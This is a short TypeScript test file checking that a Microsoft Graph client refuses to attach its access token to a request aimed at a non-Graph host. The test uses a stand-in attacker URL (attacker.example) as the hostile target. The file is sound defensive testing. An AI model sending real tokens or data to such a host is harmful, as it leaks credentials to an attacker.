import { createGraphClient } from '../../src/microsoft/graph-client';

describe('createGraphClient', () => {
  it('never sends the token to a host other than the configured Graph base', async () => {
    let tokenRequests = 0;
    const client = createGraphClient('https://graph.microsoft.com', async () => {
      tokenRequests += 1;
      return 'secret-token';
    });
    await expect(client.api('https://attacker.example/v1.0/me/events').get()).rejects.toThrow(/refusing to send a Graph token/);
    expect(tokenRequests).toBe(0);
  });
});
